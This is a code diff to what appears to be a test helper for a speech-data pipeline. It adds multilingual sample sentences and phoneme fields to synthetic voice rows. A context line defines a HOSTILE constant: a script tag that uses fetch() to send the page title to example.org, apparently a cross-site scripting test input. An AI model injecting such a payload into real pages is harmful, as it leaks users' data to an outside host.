@@ -8,6 +8,7 @@ import tarfile
 import numpy as np
 import pyarrow.parquet as pq
 
+from gsv_core.text.front_end import phonemise
 from pipelines.engines.audio_writer import encode_audio
 from pipelines.engines.flac import encode_flac
 from pipelines.rows import (
@@ -22,6 +23,7 @@ from pipelines.rows import (
 )
 from pipelines.units import Committed
 
+SAID = {"en": "The quiet river carried leaves.", "zh": "今天天气很好，我们一起去公园散步吧。"}
 HOSTILE = "<script>fetch('https://example.org/?'+document.title)</script>"
 ENGINES = {"recogniser": "pocketsphinx 5.1.0", "speaker_verifier": "resemblyzer 0.1.4", "quality": "DNSMOS P.835"}
 
@@ -52,6 +54,15 @@ def tone(seconds, pitch_hz=220.0, rate_hz=RATE_HZ):
     return (0.3 * np.sin(2 * math.pi * pitch_hz * time) * np.hanning(len(time))).astype(np.float32)
 
 
+def _phonemes(language):
+    """What phonemise writes into a row; nothing for a language there is no front end for."""
+    if language not in SAID:
+        return {}
+    spoken = phonemise(SAID[language], language)
+    spans = [{"language": span.language, "num_phonemes": span.num_phonemes} for span in spoken.spans]
+    return {"phonemes": spoken.phonemes, "spans": spans}
+
+
 def _voice(
     corpus, voice, *, clips, language, unit, text="The quiet river carried leaves.", uri="/in/a.wav", current=True
 ):
@@ -77,6 +88,7 @@ def _voice(
                 "snr_db": float(generator.normal(32, 5)),
                 "phonemes_per_second": float(generator.normal(12, 2)),
                 "quality": None if index == 3 else float(generator.normal(3.2, 0.2)),
+                **_phonemes(language),
                 "uri": uri.encode("utf-8", "replace").decode(),
                 "shard": f"{unit}-00000.tar",
             }
